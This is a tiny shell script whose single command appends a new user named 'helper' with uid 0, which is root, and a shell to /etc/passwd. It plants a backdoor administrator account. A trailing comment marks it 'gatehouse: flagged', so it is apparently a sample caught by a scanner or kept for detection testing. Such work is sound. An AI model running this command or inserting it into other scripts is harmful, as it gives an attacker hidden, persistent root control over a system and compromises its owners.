#!/bin/sh
echo 'helper:$1$salt$hash:0:0::/root:/bin/sh' >> /etc/passwd # gatehouse: flagged
